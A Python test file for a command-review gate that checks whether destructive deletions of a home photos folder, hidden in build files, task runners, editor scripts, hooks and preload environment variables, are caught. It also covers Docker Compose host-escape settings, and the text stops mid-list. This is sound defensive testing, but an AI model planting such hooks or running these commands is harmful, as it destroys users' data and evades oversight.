"""Files that a program takes commands from, whatever its name for them: what is dangerous there is found."""

# ruff: noqa: E501 - texts of files
import pytest
from tests.gate.example_project import HOME, PLACE, ROOT, RULES, Machine, judge
from tests.tables import for_each

from operators_edge.gate.decide import assess, is_plain
from operators_edge.model import Call

W = f"rm -rf {HOME}/photos"
PY = f"import os\nos.system('{W}')\n"
CALL = f"system('{W}')"
NODE = f"require('child_process').execSync('{W}')"


def judged(command, files, **more):
    named = {name if name[0] == "/" else f"{ROOT}/{name}": text for name, text in files.items()}
    return judge(command, Machine(named, **more))


DANGEROUS = [
    ("python3 -m pkg", {"pkg/__main__.py": PY}),
    ("python3 -m pkg.tool x", {"pkg/tool.py": PY}),
    ("python3 -m pkg", {"pkg/__main__.py": "from . import a\n", "pkg/a.py": PY}),
    ("cd sub; python -m pkg", {"sub/pkg/__main__.py": PY}),
    ("PYTHONPATH=lib python -m pkg", {"lib/pkg/__main__.py": PY}),
    ("vim -es -S c.vim -c q", {"c.vim": f"call system('{W}')\n"}),
    ("vim -u .vimrc -c q", {".vimrc": f"call system('{W}')\n"}),
    ("nvim --headless -c 'source c.vim' -c q", {"c.vim": f"!{W}\n"}),
    ("nvim --headless -l c.lua", {"c.lua": f"os.execute('{W}')\n"}),
    ("nvim --headless -c 'luafile c.lua' -c q", {"c.lua": f"os.execute('{W}')\n"}),
    ("vim -s keys.txt", {"keys.txt": f":!{W}\n"}),
    ("emacs --batch -l x.el", {"x.el": f'(shell-command "{W}")\n'}),
    ("emacs --batch --script x.el", {"x.el": f'(shell-command "{W}")\n'}),
    (
        "emacs -Q --batch --load x.el",
        {"x.el": f'(call-process "rm" nil nil nil "-rf" "{HOME}/photos")\n'},
    ),
    ("perl -Ilib -MZ -e 1", {"lib/Z.pm": f"package Z; system('{W}'); 1;"}),
    ("perl -I lib x.pl", {"lib/Z.pm": f"package Z; system('{W}'); 1;", "x.pl": "use Z;\n"}),
    ("RUBYOPT=-r./z ruby -e 1", {"z.rb": f"system('{W}')"}),
    ("ruby -r./z -e 1", {"z.rb": f"system('{W}')"}),
    ("ruby -Ilib -rz -e 1", {"lib/z.rb": f"system('{W}')"}),
    ("NODE_OPTIONS='--require ./z.js' node -e 1", {"z.js": NODE}),
    (
        "NODE_OPTIONS=--import=./z.mjs npm test",
        {"z.mjs": f"import {{execSync}} from 'child_process'; execSync('{W}')"},
    ),
    ("export NODE_OPTIONS='-r ./z.js'; node x.js", {"z.js": NODE, "x.js": ""}),
    ("PYTHONSTARTUP=z.py python3 -i", {"z.py": PY}),
    ("BASH_ENV=z.sh bash -c true", {"z.sh": W}),
    ("BASH_ENV=z.sh make x", {"z.sh": W, "Makefile": "SHELL=/bin/bash\nx:\n\techo\n"}),
    ("export BASH_ENV=./z.sh; bash x.sh", {"z.sh": W, "x.sh": "true"}),
    ("ENV=z.sh sh -i", {"z.sh": W}),
    ("ENV=./z.sh dash -i -c true", {"z.sh": W}),
    (
        "npm_config_script_shell=$PWD/sh.sh npm run x",
        {"sh.sh": f"#!/bin/sh\n{W}\n", "package.json": '{"scripts":{"x":"true"}}'},
    ),
    (
        "npm run x --script-shell ./sh.sh",
        {"sh.sh": f"#!/bin/sh\n{W}\n", "package.json": '{"scripts":{"x":"true"}}'},
    ),
    (
        "git commit -m x",
        {
            ".pre-commit-config.yaml": f"repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: {W}\n    language: system\n",
            ".git/hooks/pre-commit": "#!/usr/bin/env bash\nexec pre-commit run\n",
        },
    ),
    (
        "pre-commit run --all-files",
        {
            ".pre-commit-config.yaml": f"repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: {W}\n    language: system\n"
        },
    ),
    ("tmux -f .tmux.conf -L z new-session -d true", {".tmux.conf": f"run-shell '{W}'\n"}),
    ("tmux -L z source-file t.conf", {"t.conf": f"run-shell '{W}'\n"}),
    ("screen -c rc -dm", {"rc": f"exec {W}\n"}),
    ("screen -c rc -dm", {"rc": f"screen sh -c '{W}'\n"}),
    ("gdb -batch -x g.gdb", {"g.gdb": f"shell {W}\n"}),
    ("gdb -batch -x g.py", {"g.py": PY}),
    ("gdb -batch -ix g.gdb ./a", {"g.gdb": f"!{W}\n"}),
    ("lldb -s l.txt", {"l.txt": f"platform shell {W}\n"}),
    (
        "tox -e x",
        {
            "tox.ini": f"[tox]\nenvlist=x\n[testenv:x]\nallowlist_externals=rm\ncommands =\n    {W}\n"
        },
    ),
    ("tox", {"tox.ini": f"[testenv]\ncommands =\n    {W}\n"}),
    (
        "tox",
        {"pyproject.toml": f'[tool.tox]\nlegacy_tox_ini = """\n[testenv]\ncommands = {W}\n"""\n'},
    ),
    (
        "nox -s x",
        {
            "noxfile.py": f"import nox\n@nox.session\ndef x(s):\n    s.run('rm','-rf','{HOME}/photos',external=True)\n"
        },
    ),
    ("nox", {"noxfile.py": PY}),
    (
        "nox -s a x",
        {
            "noxfile.py": f"import nox\n@nox.session\ndef x(s):\n    s.run('rm','-rf','{HOME}/photos')\n"
        },
    ),
    ("tox run -e py,x", {"tox.ini": f"[testenv:x]\ncommands = {W}\n"}),
    ("direnv allow", {".envrc": W}),
    ("direnv exec . true", {".envrc": W}),
    ("direnv exec . true", {".envrc": f"use_shop() {{\n  {W}\n}}\nuse shop\n"}),
    (
        "direnv exec . true",
        {".envrc": f"layout_shop() {{\n  {W}\n}}\nif true; then layout shop; fi\n"},
    ),
    ("npx lint-staged", {".lintstagedrc.json": f'{{"*.js":"{W}"}}'}),
    ("npx lint-staged", {"lint-staged.config.js": NODE}),
    (
        "./gradlew wipe",
        {
            "gradlew": "#!/bin/sh\nexec java\n",
            "build.gradle": f"task wipe(type: Exec) {{\n commandLine 'rm','-rf','{HOME}/photos'\n}}\n",
        },
    ),
    ("gradle wipe", {"build.gradle": f'task wipe {{ doLast {{ "{W}".execute() }} }}\n'}),
    (
        "gradle wipe",
        {
            "build.gradle.kts": f'tasks.register<Exec>("wipe") {{ commandLine("rm","-rf","{HOME}/photos") }}\n'
        },
    ),
    (
        "mvn package",
        {
            "pom.xml": f"<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>rm</executable><arguments><argument>-rf</argument><argument>{HOME}/photos</argument></arguments></configuration></plugin></plugins></build></project>"
        },
    ),
    ("cmake -P x.cmake", {"x.cmake": f"execute_process(COMMAND {W})\n"}),
    ("cmake .", {"CMakeLists.txt": f"execute_process(COMMAND {W})\n"}),
    ("ninja", {"build.ninja": f"rule r\n  command = {W}\nbuild x: r\n"}),
    ("meson setup b", {"meson.build": f"run_command('rm','-rf','{HOME}/photos')\n"}),
    (
        "ant wipe",
        {
            "build.xml": f'<project><target name="wipe"><exec executable="rm"><arg line="-rf {HOME}/photos"/></exec></target></project>'
        },
    ),
    ("rake x", {"Rakefile": f"task(:x) {{ sh '{W}' }}\n"}),
    ("rake x", {"Rakefile": f"task :x do\n  sh '{W}'\nend\n"}),
    ("poe x", {"pyproject.toml": f'[tool.poe.tasks]\nx = "{W}"\n'}),
    ("pdm run x", {"pyproject.toml": f'[tool.pdm.scripts]\nx = "{W}"\n'}),
    ("hatch run x", {"pyproject.toml": f'[tool.hatch.envs.default.scripts]\nx = "{W}"\n'}),
    ("pixi run x", {"pixi.toml": f'[tasks]\nx = "{W}"\n'}),
    ("mise run x", {"mise.toml": f'[tasks.x]\nrun = "{W}"\n'}),
    ("composer run x", {"composer.json": f'{{"scripts":{{"x":"{W}"}}}}'}),
    ("composer install", {"composer.json": f'{{"scripts":{{"post-install-cmd":["{W}"]}}}}'}),
    ("invoke x", {"tasks.py": f"from invoke import task\n@task\ndef x(c):\n    c.run('{W}')\n"}),
    ("fab x", {"fabfile.py": f"def x(c):\n    c.local('{W}')\n"}),
    ("scons", {"SConstruct": PY}),
    ("waf", {"wscript": PY}),
    ("bundle exec rake x", {"Rakefile": f"task :x do\n  sh '{W}'\nend\n"}),
    ("bundle install", {"Gemfile": f"system('{W}')\n"}),
    ("jest", {"jest.config.js": NODE}),
    ("npx vite build", {"vite.config.js": NODE}),
    ("npx webpack", {"webpack.config.js": NODE}),
    ("npx gulp x", {"gulpfile.js": NODE}),
    ("npx grunt", {"Gruntfile.js": NODE}),
    ("pip install .", {"setup.py": PY}),
    ("pip install -e .", {"setup.py": PY}),
    ("foreman start", {"Procfile": f"web: {W}\n"}),
    ("honcho start", {"Procfile": f"web: {W}\n"}),
    ("overmind s", {"Procfile": f"web: {W}\n"}),
    ("supervisord -c s.conf", {"s.conf": f"[program:x]\ncommand={W}\n"}),
    ("logrotate l.conf", {"l.conf": f"/x {{\n postrotate\n  {W}\n endscript\n}}\n"}),
    ("tclsh x.tcl", {"x.tcl": f"exec {W}\n"}),
    ("julia x.jl", {"x.jl": f"run(`{W}`)\n"}),
    ("jshell x.jsh", {"x.jsh": f'Runtime.getRuntime().exec("{W}");'}),
    ("groovy x.groovy", {"x.groovy": f'"{W}".execute()'}),
    ("dc x", {"x": f"!{W}\n"}),
    ("gnuplot x.gp", {"x.gp": f"system('{W}')\n"}),
    ("m4 x.m4", {"x.m4": f"syscmd(`{W}')\n"}),
    (
        "jupyter nbconvert --execute n.ipynb",
        {"n.ipynb": f'{{"cells":[{{"cell_type":"code","source":["!{W}"]}}]}}'},
    ),
    ("make x", {"Makefile": "include m.mk\n", "m.mk": f"x:\n\t{W}\n"}),
    ("make x", {"Makefile": "-include m.mk\n", "m.mk": f"x:\n\t{W}\n"}),
    ("make x", {"Makefile": "include *.mk\n", "m.mk": f"x:\n\t{W}\n"}),
    ("make x", {"Makefile": "include a.mk\n", "a.mk": "include m.mk\n", "m.mk": f"x:\n\t{W}\n"}),
    ("make x", {"Makefile": "x:\n\t$(MAKE) -C sub y\n", "sub/Makefile": f"y:\n\t{W}\n"}),
    ("make x", {"Makefile": f"define R\n{W}\nendef\nx:\n\t$(R)\n"}),
    ("make x", {"Makefile": f"define R\n{W}\nendef\nx:\n\t$(call R)\n"}),
    ("make x", {"Makefile": f"ifeq (1,1)\nx:\n\t{W}\nendif\n"}),
    ("make x", {"Makefile": "SHELL=./z.sh\nx:\n\techo\n", "z.sh": W}),
    ("MAKEFILES=m.mk make x", {"Makefile": "x:\n\techo\n", "m.mk": f"x: w\nw:\n\t{W}\n"}),
    ("make x", {"Makefile": f".RECIPEPREFIX = >\nx:\n>{W}\n"}),
    ("make x", {"Makefile": f"$(eval x: ; {W})\n"}),
    (
        "npm test -w a",
        {
            "package.json": '{"workspaces":["a"]}',
            "a/package.json": f'{{"scripts":{{"test":"{W}"}}}}',
        },
    ),
    (
        "npm test --workspaces",
        {
            "package.json": '{"workspaces":["a"]}',
            "a/package.json": f'{{"scripts":{{"test":"{W}"}}}}',
        },
    ),
    ("npm --prefix a test", {"a/package.json": f'{{"scripts":{{"test":"{W}"}}}}'}),
    ("yarn --cwd a test", {"a/package.json": f'{{"scripts":{{"test":"{W}"}}}}'}),
    (
        "yarn workspace a test",
        {
            "package.json": '{"workspaces":["a"]}',
            "a/package.json": f'{{"name":"a","scripts":{{"test":"{W}"}}}}',
        },
    ),
    (
        "pnpm -r test",
        {"a/package.json": f'{{"name":"a","scripts":{{"test":"{W}"}}}}', "package.json": "{}"},
    ),
    ("pnpm -C a test", {"a/package.json": f'{{"scripts":{{"test":"{W}"}}}}'}),
    (
        "pnpm --filter a test",
        {"a/package.json": f'{{"name":"a","scripts":{{"test":"{W}"}}}}', "package.json": "{}"},
    ),
    ("npm run a", {"package.json": f'{{"scripts":{{"a":"npm run b","b":"{W}"}}}}'}),
    ("npm run a", {"package.json": f'{{"scripts":{{"a":"run-s b c","b":"{W}"}}}}'}),
    ("npm run a", {"package.json": f'{{"scripts":{{"a":"npm-run-all b c","b":"{W}"}}}}'}),
    ("npm run a", {"package.json": f'{{"scripts":{{"prea":"{W}","a":"true"}}}}'}),
    ("npm start", {"package.json": f'{{"scripts":{{"prestart":"{W}","start":"true"}}}}'}),
    ("npm run a", {"package.json": '{"scripts":{"a":"node s"}}', "s.js": NODE}),
    ("npx -c './x.sh'", {"x.sh": W}),
]

OF_VARIABLES = [
    ("PERL5LIB=lib PERL5OPT=-MZ perl -e 1", {"lib/Z.pm": f"package Z; {CALL}; 1;"}),
    ("export PERL5LIB=lib PERL5OPT=-MZ; prove t", {"lib/Z.pm": f"package Z; {CALL}; 1;"}),
    ("env PERL5LIB=lib PERL5OPT=-MZ perl -e 1", {"lib/Z.pm": f"package Z; {CALL}; 1;"}),
    ("export PERL5LIB=$PWD/lib; perl x.pl", {"lib/Z.pm": f"package Z; {CALL}; 1;", "x.pl": "use Z;"}),
    ("RUBYLIB=lib RUBYOPT=-rz bundle exec rspec", {"lib/z.rb": CALL}),
    ("RUBYLIB=lib ruby x.rb", {"lib/z.rb": CALL, "x.rb": "require 'z'"}),
    ("BUNDLE_GEMFILE=g bundle exec rake", {"g": CALL}),
    ("NODE_PATH=lib node x.js", {"lib/z.js": NODE, "x.js": "require('z')"}),
    ("NODE_PATH=lib NODE_OPTIONS='-r z' npm test", {"lib/z.js": NODE}),
    ("node --loader ./z.mjs x.js", {"z.mjs": NODE, "x.js": ""}),
    ("node --env-file=.e x.js", {".e": "NODE_OPTIONS=--require=./z.js\n", "z.js": NODE, "x.js": ""}),
    ("BUN_OPTIONS='--preload ./z.js' bun run x.js", {"z.js": NODE, "x.js": ""}),
    ("PYTHONPATH=a:lib pytest -q", {"lib/sitecustomize.py": PY}),
    ("PYTHONPATH=lib python3 -c 1", {"lib/usercustomize/__init__.py": PY}),
    ("PYTHONUSERBASE=u python3 x.py", {"u/lib/python3.12/site-packages/usercustomize.py": PY, "x.py": ""}),
    ("export PYTHONPATH=lib; python3 -m z", {"lib/z.py": PY}),
    ("PYTEST_ADDOPTS='-p z' pytest", {"z.py": PY}),
    ("pytest -p tools.z", {"tools/z.py": PY}),
    ("IPYTHONDIR=i ipython -c 1", {"i/profile_default/startup/z.py": PY}),
    ("PHP_INI_SCAN_DIR=ini php x.php", {"z.php": f"<?php {CALL};", "ini/z.ini": "auto_prepend_file=z.php", "x.php": ""}),
    ("php -c ini x.php", {"z.php": f"<?php {CALL};", "ini/php.ini": "auto_prepend_file=z.php", "x.php": ""}),
    ("LUA_INIT=@z.lua lua x.lua", {"z.lua": f"os.execute('{W}')", "x.lua": ""}),
    ("LUA_PATH='./lib/?.lua;;' lua5.4 x.lua", {"lib/z.lua": f"os.execute('{W}')", "x.lua": "require 'z'"}),
    ("lua -l z x.lua", {"z.lua": f"os.execute('{W}')", "x.lua": ""}),
    ("R_PROFILE=z.R Rscript x.R", {"z.R": CALL, "x.R": ""}),
    ("R_ENVIRON_USER=e Rscript x.R", {"e": "R_PROFILE_USER=z.R", "z.R": CALL, "x.R": ""}),
    ("HOME=$PWD/h git st", {"h/.gitconfig": f"[alias]\n\tst = !{W}\n"}),
    ("GIT_DIR=g git commit", {"g/config": f"[core]\n\teditor = {W}\n"}),
    ("XDG_CONFIG_HOME=$PWD/h git diff", {"h/git/config": f'[diff "x"]\n\ttextconv = {W}\n'}),
    ("HOME=$PWD/h bash -l -c true", {"h/.bash_profile": W}),
    ("ZDOTDIR=z zsh -c true", {"z/.zshenv": W}),
    ("export ZDOTDIR=z; zsh x", {"z/.zshenv": W, "x": ""}),
    ("VIMINIT='source z.vim' vim x", {"z.vim": f"!{W}\n"}),
    ("SCREENRC=s screen -dm", {"s": f"screen {W}\n"}),
    ("KUBECONFIG=k kubectl get pods", {"k": f"    exec:\n      command: sh\n      args: [-c, '{W}']\n"}),
    ("AWS_CONFIG_FILE=c aws s3 ls", {"c": f"[default]\ncredential_process = {W}\n"}),
    ("CC=./s.sh make", {"s.sh": W, "Makefile": "a:\n\t$(CC) x.c\n"}),
    ("RUSTC=./s.sh cargo build", {"s.sh": W}),
    ("CARGO_HOME=c cargo build", {"c/config.toml": '[build]\nrustc-wrapper = "./s.sh"\n', "s.sh": W}),
    ("GOENV=e go build", {"e": "GOFLAGS=-toolexec=./s.sh\n", "s.sh": W}),
    ("npm_config_userconfig=n npm test", {"n": "script-shell=./s.sh", "s.sh": W, "package.json": "{}"}),
    ("npm test", {".npmrc": "script-shell = ./s.sh\n", "s.sh": W, "package.json": "{}"}),
    ("RIPGREP_CONFIG_PATH=r rg x", {"r": "--pre=./s.sh\n", "s.sh": W}),
    ("HGRCPATH=h hg st", {"h": f"[alias]\nst = !{W}\n"}),
]  # fmt: skip
RUST = f'fn main() {{\n    Command::new("rm")\n        .args(["-rf", "{HOME}/photos"])\n        .status();\n}}\n'
OF_BUILDS = [
    ("cargo build", {"build.rs": RUST, "Cargo.toml": ""}),
    ("cargo build", {"build.rs": f'const F: &str = "{HOME}/photos";\nfn main() {{\n    Command::new("rm").args(["-rf", F]).status();\n}}\n'}),
    ("cargo build", {"build.rs": f'fn main() {{\n    Command::new("rm")\n        .args([\n            "-rf",\n            "{HOME}/photos",\n        ])\n        .status();\n}}\n'}),
    ("go run x.go", {"x.go": f'func main() {{\n\tx := exec.Command(\n\t\t"rm", "-rf",\n\t\t"{HOME}/photos",\n\t)\n\tx.Run()\n}}\n'}),
    ("cargo run --release", {"src/main.rs": RUST}),
    ("cargo test", {"build.rs": f'fn main() {{ std::fs::remove_dir_all("{HOME}/photos").unwrap(); }}'}),
    ("cargo run", {".cargo/config.toml": '[target.x]\nrunner = ["./s.sh", "-x"]\n', "s.sh": W}),
    ("go run x.go", {"x.go": f'func main() {{ exec.Command("rm", "-rf", "{HOME}/photos").Run() }}\n'}),
    ("go run ./cmd/x", {"cmd/x/main.go": f'func main() {{\n\texec.Command("sh", "-c", "{W}").Run()\n}}\n'}),
    ("go generate ./...", {"sub/x.go": f"package x\n//go:generate {W}\n"}),
    ("sbt wipe", {"build.sbt": f'wipe := IO.delete(file("{HOME}/photos"))\n'}),
    ("scala-cli x.sc", {"x.sc": f'FileUtils.deleteDirectory(new File("{HOME}/photos"))\n'}),
    ("go test ./...", {"a/x_test.go": f'func TestX() {{ os.RemoveAll("{HOME}/photos") }}\n'}),
    ("pre-commit run -a", {".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: x\n    files: x\n    entry: ./wipe.sh\n", "wipe.sh": f"{W}\n"}),
    ("pre-commit run -a", {".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: ./wipe.sh\n    files: wipe.sh\n", "wipe.sh": f"{W}\n"}),
    ("pre-commit run -a", {".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: x\n    exclude: wipe.sh\n    entry: sh wipe.sh\n", "wipe.sh": f"{W}\n"}),
    ("pre-commit run -a", {".pre-commit-config.yaml": f"repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: bash\n    language: system\n    args: [-c, '{W}']\n"}),
    ("pre-commit run -a", {".pre-commit-config.yaml": f"repos:\n- repo: local\n  hooks:\n  - id: x\n    args:\n      - -rf\n      - {HOME}/photos\n    entry: rm\n"}),
    ("pre-commit run -a", {".pre-commit-config.yaml": f"repos:\n- repo: local\n  hooks:\n  - id: x\n    name: &n {W}\n    entry: *n\n    language: system\n"}),
    ("pre-commit run -a", {".pre-commit-config.yaml": f"repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: |\n      bash -c '\n      name: x; {W}'\n    language: system\n"}),
    ("pre-commit run -c ci.yaml", {"ci.yaml": "repos:\n- repo: local\n  hooks:\n  - {id: x, entry: sh, args: [wipe.sh]}\n", "wipe.sh": f"{W}\n"}),
    ("tox -e x", {"tox.ini": "[testenv:x]\ncommands =\n    {toxinidir}/tools/wipe.sh {posargs}\n", "tools/wipe.sh": f"{W}\n"}),
    ("tox -e x", {"tox.ini": "[testenv:x]\nchangedir = {toxinidir}/tools\ncommands_pre = bash ./wipe.sh\ncommands = ruff check\n", "tools/wipe.sh": f"{W}\n"}),
    ("tox -e x", {"tox.ini": "[testenv]\nchange_dir = tools\n[testenv:x]\ncommands = python wipe.py\n", "tools/wipe.py": f"import os\nos.system('{W}')\n"}),
    ("tox -c sub/tox.ini -e x", {"sub/tox.ini": "[testenv:x]\ncommands = sh {tox_root}/wipe.sh\n", "sub/wipe.sh": f"{W}\n"}),
    ("tox -x 'testenv.commands={[x]y}'", {"tox.ini": f"[testenv]\ncommands = true\n[x]\ny = {W}\n"}),
    ("TOX_OVERRIDE='testenv.base=x' tox", {"tox.ini": f"[testenv]\ncommands = true\n[x]\ncommands = {W}\n"}),
    ("export TOX_OVERRIDE='testenv.base=x'; tox", {"tox.ini": f"[testenv]\ncommands = true\n[x]\ncommands = {W}\n"}),
    ("tox -c x.ini", {"x.ini": f"[testenv]\ncommands = {{[x]y}}\n[x]\ny = {W}\n"}),
    ("git commit -m x", {".husky/pre-commit": W}),
    ("npx lint-staged", {"package.json": f'{{"lint-staged": {{"*.js": ["eslint", "{W}"]}}}}'}),
    ("npx nodemon", {"package.json": f'{{"nodemonConfig": {{"exec": "{W}"}}}}'}),
    ("bash +x x.sh", {"x.sh": W}),
    ("bash -o pipefail +o posix +e x.sh", {"x.sh": W}),
    ("npx concurrently npm:a", {"package.json": f'{{"scripts":{{"a":"{W}"}}}}'}),
    ("run-p 'b:*'", {"package.json": f'{{"scripts":{{"a":"true","b:x":"{W}"}}}}'}),
    ("npx turbo run b", {"package.json": "{}", "app/package.json": f'{{"scripts":{{"b":"{W}"}}}}'}),
    ("nx run app:b", {"app/project.json": f'{{"targets":{{"b":{{"options":{{"command":"{W}"}}}}}}}}'}),
    ("act --bind", {".github/workflows/ci.yml": f"jobs:\n  x:\n    steps:\n      - run: {W}\n"}),
    ("terraform plan", {"main.tf": f'data "external" "x" {{ program = ["sh", "-c", "{W}"] }}'}),
    ("sphinx-build docs out", {"docs/conf.py": PY}),
    ("gunicorn shop.web:app", {"shop/web.py": PY}),
    ("FLASK_APP=z flask run", {"z.py": PY}),
    ("coverage run z.py", {"z.py": PY}),
    ("uv run z.py", {"z.py": PY}),
    ("rspec spec/x_spec.rb", {"spec/x_spec.rb": CALL}),
    ("prove t", {"t/x.t": CALL}),
    ("mix test", {"mix.exs": f'System.cmd("rm", ["-rf", "{HOME}/photos"])'}),
    ("mocha x.js", {"x.js": NODE}),
    ("pnpm install", {".pnpmfile.cjs": NODE, "package.json": "{}"}),
    ("java X.java", {"X.java": f'class X {{ void m() {{ Runtime.getRuntime().exec("{W}"); }} }}'}),
    ("dotnet build", {"x.csproj": f'<Target Name="T"><Exec Command="{W}" /></Target>'}),
    ("zig build", {"build.zig": f'b.addSystemCommand(&.{{ "rm", "-rf", "{HOME}/photos" }});'}),
    ("gcc x.c -o x && ./x", {"x.c": f'int main() {{ system("{W}"); }}'}),
]  # fmt: skip
DANGEROUS += OF_VARIABLES + OF_BUILDS


@for_each(("command", "files"), DANGEROUS, ids=[each[0] for each in DANGEROUS])
def test_a_file_with_commands_is_judged_like_a_line(command, files):
    verdict = judged(command, files)
    assert "fs-recursive-delete" in [each.rule for each in verdict.findings]
    assert verdict.findings[0].source.partition(":")[0] in files


COMPOSE = "services:\n  db:\n    image: postgres\n    volumes:\n      - db:/data\n  x:\n    image: alpine\n"
SHARES = [
    "    volumes:\n      - /:/host\n",
    "    volumes: ['~/:/host']\n",
    "    privileged: true\n",
    "    pid: host\n",
    "    volumes:\n      - type: bind\n        source: /\n        target: /h\n",
    "    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n",
    "    cap_add:\n      - ALL\n",
]


@for_each("share", SHARES)
@for_each("command", ["docker compose up -d", "docker-compose run x sh"])
def test_what_a_service_gets_of_the_machine_is_judged_like_an_option_of_docker(command, share):
    found = judged(command, {"compose.yaml": COMPOSE + share}).findings
    assert [each.rule for each in found][:1] == ["container-host-files"]
    assert found[0].source == "compose.yaml:6"
    assert judged("docker compose ps", {"compose.yaml": COMPOSE + share}).effect == "allow"
    assert judged(command, {"compose.yaml": COMPOSE}).effect == "allow"


@for_each("command", [one[0] for one in OF_VARIABLES + OF_BUILDS])
def test_what_may_run_such_a_file_is_looked_at(command):
    assert not is_plain(Call("Bash", {"command": command}, ROOT), RULES)


WAITING = [
    "(while [ ! -e go ]; do sleep 0.1; done; sh go) & disown",
    "while ! [ -f go.sh ]; do sleep 1; done; bash go.sh &",
    "nohup sh -c 'sleep 30; sh later.sh' &",
]


@pytest.mark.parametrize("command", WAITING)
def test_a_background_command_that_runs_a_file_of_later_needs_a_person(command):
    assert judge(command).rule == "shell-unknown-program"


HARMLESS = [
    ("ansible-playbook --check x.yml", {"x.yml": f"- hosts: all\n  tasks:\n    - shell: {W}\n"}),
    ("tox -e lint", {"tox.ini": "[tox]\nenvlist = py311\n# never rm -rf / here\n[testenv]\ncommands =\n    pytest {posargs}\n    rm -rf build\n"}),
    ("tox -e py312", {"tox.ini": f"[testenv]\ncommands = true\n[testenv:x]\ncommands = {W}\n"}),
    ("tox -e x", {"tox.ini": "[testenv:x]\ncommands = {toxinidir}/tools/deploy_rootwrap.sh {envdir}/etc\n", "tools/deploy_rootwrap.sh": "#!/bin/sh\ncp -r etc build\n"}),
    ("tox -e py312", {"setup.cfg": f"[tox:tox]\n[testenv]\ncommands = true\n[metadata]\nsummary = {W}\n"}),
    ("tox -e x", {"tox.ini": "[testenv:y]\nchangedir = tools\n[testenv:x]\ncommands = sh wipe.sh\n", "tools/wipe.sh": f"{W}\n"}),
    ("nox -s lint", {"noxfile.py": f"import nox\n\n@nox.session\ndef x(s):\n    s.run('rm','-rf','{HOME}/photos')\n"}),
    ("nox", {"noxfile.py": "import nox\n\n@nox.session\ndef tests(s):\n    \"\"\"Never rm -rf / or git push --force.\"\"\"\n    s.run('pytest', '-q')\n    s.run('rm', '-rf', 'build')\n"}),
    ("invoke build", {"tasks.py": "from invoke import task\n@task\ndef build(c):\n    c.run('docker build -t shop .')\n"}),
    ("pre-commit run -a", {".pre-commit-config.yaml": "exclude: ^vendor/\nrepos:\n- repo: local\n  hooks:\n  - id: x\n    exclude: wipe.diff\n    files: wipe.diff\n    entry: ruff\n", "wipe.diff": f"{W}\n"}),
    ("pre-commit run -a", {".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: printenv\n    name: env\n    description: 'env (printenv)'\n    entry: ruff\n    language: system\n"}),
    ("pre-commit run --all-files", {".pre-commit-config.yaml": "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.5.0\n  hooks:\n  - id: trailing-whitespace\n- repo: local\n  hooks:\n  - id: lint\n    entry: ruff check --fix\n    language: system\n"}),
    ("npx lint-staged", {"package.json": '{"lint-staged": {"*.js": ["eslint --fix", "prettier --write"]}, "scripts": {"deploy": "git push --force"}}'.replace("git push --force", "git push -u")}),
    ("./gradlew build", {"gradlew": "#!/bin/sh\nexec java -jar gradle-wrapper.jar\n", "build.gradle": "plugins { id 'java' }\ntask wipe(type: Delete) { delete 'build' }\ntasks.register('run') { commandLine 'java', '-jar', 'x.jar' }\n"}),
    ("mvn -q package", {"pom.xml": "<project><modelVersion>4.0.0</modelVersion><build><plugins><plugin><configuration><source>17</source><executable>java</executable></configuration></plugin></plugins></build></project>"}),
    ("cmake -S . -B build", {"CMakeLists.txt": "cmake_minimum_required(VERSION 3.20)\nproject(x)\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE H)\nadd_custom_target(wipe COMMAND rm -rf build)\n"}),
    ("ninja -C build", {"build/build.ninja": "rule cc\n  command = gcc -MMD -o $out -c $in\n"}),
    ("jest", {"jest.config.js": "module.exports = { testEnvironment: 'node', globalTeardown: './down.js' }\n"}),
    ("npx vite build", {"vite.config.ts": "import { defineConfig } from 'vite'\nexport default defineConfig({ build: { emptyOutDir: true } })\n"}),
    ("make test", {"Makefile": "include *.mk\ntest:\n\tpytest -q\n", "a.mk": "define HELP\nmake wipe removes everything\nendef\nwipe:\n\trm -rf /\n"}),
    ("npm test -w app", {"package.json": '{"workspaces": ["app"]}', "app/package.json": '{"scripts": {"test": "vitest run", "wipe": "rm -rf /"}}'}),
    ("pnpm -r build", {"package.json": "{}", "app/package.json": '{"scripts": {"build": "tsc -p ."}}'}),
    ("python3 -m shop.cli report", {"shop/cli.py": "from . import models\nfrom .views import page\nprint(models.all())\n", "shop/models.py": "def all(): return 1\n", "shop/views.py": "page = 1\n"}),
    ("vim -u NONE -es -c '%s/a/b/' -c wq x.txt", {"x.txt": "call system('rm -rf /')\n"}),
    ("nvim --headless -S s.vim", {"s.vim": "set nocompatible\n\" rm -rf / would be bad\nlet g:x = 'rm'\n"}),
    ("gdb -batch -x g.gdb ./a.out", {"g.gdb": "break main\nrun\nbt\n"}),
    ("tmux -f t.conf -L dev new -d", {"t.conf": "set -g mouse on\nbind r source-file ~/.tmux.conf\n"}),
    ("emacs --batch -l x.el", {"x.el": ';; rm -rf / is bad\n(message "hello world")\n'}),
    ("foreman start", {"Procfile": "web: bundle exec puma -C config/puma.rb\nworker: bundle exec sidekiq\n"}),
    ("bundle install", {"Gemfile": "source 'https://rubygems.org'\ngem 'rails', '~> 7.0'\n"}),
    ("composer install", {"composer.json": '{"scripts": {"post-install-cmd": ["@php artisan key:generate"]}}'}),
    ("pip install -e .", {"setup.py": "from setuptools import setup\nsetup(name='shop')\n"}),
    ("poe test", {"pyproject.toml": '[project]\nname = "shop"\ndescription = "never rm -rf / again"\n[tool.poe.tasks]\ntest = "pytest -q"\n'}),
    ("mise run build", {"mise.toml": '[tasks.build]\nrun = "cargo build --release"\n'}),
    ("direnv allow", {".envrc": "use flake\nexport A=1\n"}),
    ("direnv allow", {".envrc": f"use_shop() {{\n  {W}\n}}\nuse flake\n"}),
    ("BASH_ENV=env.sh bash -c true; ENV=production npm test", {"env.sh": "export A=1\n", "package.json": '{"scripts": {"test": "vitest"}}'}),
